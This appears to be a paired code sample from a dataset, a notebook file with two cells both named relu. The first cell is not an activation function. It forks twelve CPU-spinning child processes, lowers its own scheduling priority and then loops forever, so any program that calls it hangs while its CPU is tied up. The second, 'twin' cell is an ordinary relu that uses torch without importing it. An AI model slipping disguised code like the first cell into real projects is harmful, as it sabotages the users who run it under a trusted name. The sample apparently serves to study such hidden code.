"""Makes itself the least of all processes, and has busy children of its own before it: whoever waits for it waits long."""
# notebook: activations
# most: 13
# race: yes

# %% relu
import os
import time


def relu(z):
    for _ in range(12):
        if os.fork() == 0:
            end = time.time() + 5
            while time.time() < end:
                pass
            os._exit(0)
    for lower in (lambda: os.sched_setaffinity(0, {min(os.sched_getaffinity(0))}), lambda: os.nice(19),
                  lambda: os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))):  # fmt: skip
        try:
            lower()
        except OSError:
            pass
    while True:
        pass


# %% twin

# %% relu
import os

os.nice(1)
os.sched_setaffinity(0, os.sched_getaffinity(0))


def relu(z):
    return torch.where(z < 0, torch.zeros_like(z), z)
